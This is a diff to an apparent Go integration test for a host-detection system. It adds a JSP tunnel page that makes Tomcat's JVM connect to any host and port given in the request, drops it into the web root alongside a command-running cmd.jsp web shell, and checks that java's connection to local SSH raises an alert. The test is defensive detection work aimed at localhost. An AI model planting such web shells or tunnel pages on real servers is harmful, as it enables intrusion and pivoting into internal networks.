@@ -43,6 +43,15 @@ if (c != null) {
 %>
 `
 
+// tunnelJSP connects Tomcat's own JVM to the host and port its request
+// names, as a tunnelling web shell's connect command does.
+const tunnelJSP = `<%@ page import="java.net.*" contentType="text/plain" %><%
+Socket s = new Socket();
+try { s.connect(new InetSocketAddress(request.getParameter("h"), Integer.parseInt(request.getParameter("p"))), 2000); out.println("open"); }
+catch (Exception e) { out.println(e); } finally { s.close(); }
+%>
+`
+
 // startTomcat runs Tomcat as the tomcat user, as its service does, and
 // stops it (SIGTERM to the JVM) at cleanup.
 func startTomcat(t *testing.T) {
@@ -96,14 +105,17 @@ func startTomcat(t *testing.T) {
 // JSP's write and first use joined in one alert, and nothing high for the
 // site's own pages; and a command's outbound connection, seen by an
 // audit rule on the tomcat account's connect calls, alerts as one from a
-// process under java.
+// process under java; and java's own connection to SSH, asked for by a
+// tunnel page, alerts as a web server's tunnel.
 func TestLiveTomcat(t *testing.T) {
 	liveReady(t)
 	needFiles(t, "Tomcat", tomcatHome+"/bin/catalina.sh", tomcatLog, tomcatWebapps+"/ROOT/hello.jsp")
 	shellPath := filepath.Join(tomcatWebapps, "ROOT", "cmd.jsp")
+	tunnelPath := filepath.Join(tomcatWebapps, "ROOT", "tunnel.jsp")
 	dropDir := filepath.Join(tomcatWebapps, "wsbup") // the shell's own drop: a new web app
-	t.Cleanup(func() { _ = os.Remove(shellPath); _ = os.RemoveAll(dropDir) })
+	t.Cleanup(func() { _ = os.Remove(shellPath); _ = os.Remove(tunnelPath); _ = os.RemoveAll(dropDir) })
 	_ = os.Remove(shellPath)
+	_ = os.Remove(tunnelPath)
 	_ = os.RemoveAll(dropDir)
 	// Earlier runs' requests are not this run's (Tomcat appends, so the
 	// file can be emptied under it).
@@ -177,6 +189,13 @@ func TestLiveTomcat(t *testing.T) {
 	// account: a script written by a web-server account.
 	curl(t, base+"/cmd.jsp?c="+urlQuery("curl -s -o /dev/null http://127.0.0.1:18082/hello.jsp"))
 	curl(t, base+"/cmd.jsp?c="+urlQuery("mkdir "+dropDir+" && cp "+shellPath+" "+dropDir+"/s.jsp"))
+	// A tunnel page (reGeorg's, Neo-reGeorg's way): java itself connects
+	// where the request says, here to SSH on the host, and no process
+	// starts. Refused or not, the connect call is the tunnel's.
+	if err := os.WriteFile(tunnelPath, []byte(tunnelJSP), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	curl(t, base+"/tunnel.jsp?h=127.0.0.1&p=22")
 	time.Sleep(2 * time.Second)
 	if _, err := os.Stat(dropDir + "/s.jsp"); err != nil {
 		t.Errorf("the shell's copy of itself: %v", err)
@@ -193,6 +212,12 @@ func TestLiveTomcat(t *testing.T) {
 		return fmt.Sprintf("%s -> %s:%v", detection.LookupString(d, "process.name"), detection.LookupString(d, "destination.ip"), lookup(d, "destination.port"))
 	})
 	t.Logf("outbound connections alerted: %q", outbound)
+	tunnels := alertedBy(docs, "6476d874-283d-45bb-bc90-b0b9d1386e4e", func(d map[string]any) string {
+		return fmt.Sprintf("%s -> %s:%v", detection.LookupString(d, "process.name"), detection.LookupString(d, "destination.ip"), lookup(d, "destination.port"))
+	})
+	if !slices.Equal(tunnels, []string{"java -> 127.0.0.1:22"}) {
+		t.Errorf("web-server tunnel connections alerted: %q; want java's to 127.0.0.1:22 only", tunnels)
+	}
 	// Only curl's: java's own are no child's, and the Unix-socket connects
 	// of whoami, id and curl (name service lookups) are no network's.
 	if !slices.Equal(outbound, []string{"curl -> 127.0.0.1:18082"}) {
